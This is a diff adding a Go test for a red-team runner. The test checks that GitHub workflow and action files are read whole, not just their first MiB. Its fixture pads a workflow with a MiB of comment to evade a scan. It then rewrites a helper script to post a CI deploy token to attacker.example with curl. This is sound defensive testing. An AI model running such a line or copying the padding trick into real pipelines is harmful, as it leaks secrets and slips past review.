@@ -500,3 +500,31 @@ func TestRedTeamRunnerReadsEveryWorkflow(t *testing.T) {
 		{"the 202nd action folder", "tools/**", files(manyFolders), evil, "more than 200 local actions"},
 	})
 }
+
+// TestRedTeamRunnerReadsWholeWorkflows: the gate read the first MiB of
+// each workflow and definition, and the runner reads them whole. A
+// workflow (or the action.yml it uses) opens with a MiB of comment, then
+// runs ./tools/helper with a secret; a task under tools/** rewrote the
+// helper's script. A longer file now fails the task.
+func TestRedTeamRunnerReadsWholeWorkflows(t *testing.T) {
+	t.Parallel()
+	pad := "#" + strings.Repeat(" padding", 1<<20/8) + "\n"
+	helper := func(extra map[string]string) func(string) error {
+		base := map[string]string{
+			"tools/helper/Dockerfile":    "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+			"tools/helper/entrypoint.sh": "echo ok\n",
+		}
+		maps.Copy(base, extra)
+		return files(base)
+	}
+	job := "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./%s\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	runScopedAttacks(t, []scopedAttack{
+		{"a workflow past its first MiB", "tools/**", helper(map[string]string{".github/workflows/build.yml": pad + fmt.Sprintf(job, "tools/helper")}),
+			evil, "larger than 1 MiB"},
+		{"a definition past its first MiB", "tools/**", helper(map[string]string{
+			".github/workflows/build.yml": fmt.Sprintf(job, "ci/build"),
+			"ci/build/action.yml":         pad + "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		}), evil, "larger than 1 MiB"},
+	})
+}
